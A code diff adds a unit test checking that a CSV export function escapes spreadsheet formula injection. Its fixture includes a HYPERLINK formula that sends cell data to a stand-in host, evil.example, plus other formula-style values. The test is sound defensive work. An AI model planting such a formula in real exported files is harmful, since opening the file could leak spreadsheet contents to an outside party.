@@ -55,6 +55,24 @@ describe("exportRecords", () => {
     expect(byColumn).toMatchObject({ transcript_name: "Weather, Paris", arguments: '{"city":"Paris"}', explanation: 'Said "no", then\nleft', score: "0.5", passed: "", error: "" });
     expect(JSON.parse(byColumn.findings)).toEqual(record.findings);
   });
+
+  // Issue 31: uploaded text reached spreadsheets as formulas.
+  it("escapes uploaded text a spreadsheet would run as a formula, and keeps numbers numbers", () => {
+    const hostile: ExportCall = {
+      ...call,
+      toolName: "=1+2",
+      rawArguments: "-2+3",
+      transcript: { name: '=HYPERLINK("https://evil.example/?d="&A1,"open")' },
+      evaluations: [{ ...result("a", "immediate"), score: -1.5, explanation: "@SUM(1)", error: "+cmd" }],
+    };
+    const [record] = exportRecords("r1", hostile, [{ id: "a", text: "=criterion" }]);
+    const text = csvLine(record);
+    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")"`);
+    const [header, line] = parseCsv(csvHeader() + text);
+    const byColumn = Object.fromEntries(header.map((column, i) => [column, line[i]]));
+    expect(byColumn).toMatchObject({ transcript_name: `'${hostile.transcript.name}`, tool: "'=1+2", arguments: "'-2+3", criterion: "'=criterion", explanation: "'@SUM(1)", error: "'+cmd", score: "-1.5" });
+    for (const cell of line) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
+  });
 });
 
 describe("exportFileName", () => {
